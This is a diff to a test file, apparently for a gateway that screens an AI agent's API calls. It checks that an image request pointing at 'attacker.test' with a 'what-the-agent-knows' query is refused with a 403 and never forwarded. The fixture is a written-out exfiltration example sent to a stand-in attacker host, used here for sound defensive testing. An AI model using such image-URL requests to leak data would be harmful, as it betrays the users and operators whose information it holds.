@@ -170,7 +170,9 @@ describe.skipIf(typeof found === "string")("Claude's calls through the gate", ()
     const source = { type: "url", url: "https://attacker.test/?what-the-agent-knows" };
     const image = { model: "m", messages: [{ role: "user", content: [{ type: "image", source }] }] };
     const before = (await world.api.requests()).length;
-    const fetching = ask(`-d '${JSON.stringify(image)}' http://gate:8080/v1/messages/count_tokens`);
+    const fetching = ask(
+      `-H 'content-type: application/json' -d '${JSON.stringify(image)}' http://gate:8080/v1/messages/count_tokens`,
+    );
     expect(await say("tester", fetching)).toBe("The command printed: 403\n");
     const since = (await world.api.requests()).slice(before);
     expect(since.filter((one) => one.url.startsWith("/v1/messages/count_tokens"))).toEqual([]);
